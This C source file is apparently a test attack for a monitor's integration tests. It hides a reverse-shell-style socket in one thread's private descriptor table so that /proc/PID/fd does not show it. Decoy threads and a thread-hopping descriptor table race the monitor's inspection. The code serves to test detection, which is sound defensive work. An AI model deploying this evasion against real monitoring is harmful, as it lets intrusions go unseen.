/*
 * An attack for the monitor's integration tests, run as root inside a container: a reverse shell whose socket is in a
 * descriptor table of one thread's own. The thread unshares its table (unshare(CLONE_FILES)), connects to ADDRESS:PORT
 * and puts the connection on its stdin, stdout and stderr; the process's /proc/PID/fd shows its leader's table, which
 * holds none of it. The main thread listens on PORT and holds the other end, so nothing leaves the container when
 * ADDRESS is its own. The test runs it under an interpreter's name (the program name is what the monitor reads).
 *
 * With DECOYS, FDS and PERIOD, the table also moves from thread to thread: the thread holding it starts a thread every
 * PERIOD microseconds, which shares it, and ends; DECOYS threads started first each hold a table of their own with
 * FDS descriptors, which makes a look at the process slow, so that the holder a look listed has ended when it is read.
 *
 * Usage: attack-private-fds ADDRESS PORT [DECOYS FDS PERIOD]; prints "ready TID" once the connection is made (TID: the
 * thread holding it first).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <semaphore.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

static struct sockaddr_in peer;
static int listener, fds;
static sem_t go;
static pthread_attr_t detached;

/* the holder: at each go, hands its table to a new thread (which shares it) and ends */
static void *holder(void *unused) {
    (void)unused;
    for (;;) {
        sem_wait(&go);
        pthread_t next;
        if (pthread_create(&next, &detached, holder, NULL) == 0) pthread_exit(NULL);
    }
    return NULL;
}

static void *hidden(void *unused) {
    if (unshare(CLONE_FILES) < 0) {
        perror("unshare");
        exit(1);
    }
    close(listener); /* in this thread's table only */
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0 || connect(s, (struct sockaddr *)&peer, sizeof peer) < 0) {
        perror("connect");
        exit(1);
    }
    printf("ready %d\n", gettid());
    fflush(stdout);
    if (dup2(s, 0) < 0 || dup2(s, 1) < 0 || dup2(s, 2) < 0) exit(1);
    close(s);
    return holder(unused);
}

/* a decoy: a table of its own, FDS descriptors of /dev/null, kept */
static void *decoy(void *unused) {
    (void)unused;
    if (unshare(CLONE_FILES) < 0) return NULL;
    for (int fd = 0; fd < 1024; fd++) close(fd);
    int null = open("/dev/null", O_RDONLY);
    for (int k = 1; k < fds; k++)
        if (dup(null) < 0) break;
    for (;;) pause();
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 3 && argc != 6) {
        fprintf(stderr, "usage: %s ADDRESS PORT [DECOYS FDS PERIOD]\n", argv[0]);
        return 2;
    }
    int decoys = argc == 6 ? atoi(argv[3]) : 0, period = argc == 6 ? atoi(argv[5]) : 0;
    fds = argc == 6 ? atoi(argv[4]) : 0;
    peer.sin_family = AF_INET;
    peer.sin_port = htons((unsigned short)atoi(argv[2]));
    if (inet_pton(AF_INET, argv[1], &peer.sin_addr) != 1) return 2;
    struct sockaddr_in any = {.sin_family = AF_INET, .sin_port = peer.sin_port, .sin_addr = {htonl(INADDR_ANY)}};
    int one = 1;
    listener = socket(AF_INET, SOCK_STREAM, 0);
    if (listener < 0 || setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one) < 0
        || bind(listener, (struct sockaddr *)&any, sizeof any) < 0 || listen(listener, 1) < 0) {
        perror("listen");
        return 1;
    }
    sem_init(&go, 0, 0);
    pthread_attr_init(&detached);
    pthread_attr_setstacksize(&detached, 65536);
    pthread_attr_setdetachstate(&detached, PTHREAD_CREATE_DETACHED);
    pthread_t t;
    for (int i = 0; i < decoys; i++)
        if (pthread_create(&t, &detached, decoy, NULL) != 0) return 1;
    if (pthread_create(&t, &detached, hidden, NULL) != 0) return 1;
    if (accept(listener, NULL, NULL) < 0) {
        perror("accept");
        return 1;
    }
    for (;;) {
        if (period <= 0) {
            pause();
            continue;
        }
        sem_post(&go);
        usleep((useconds_t)period);
    }
}
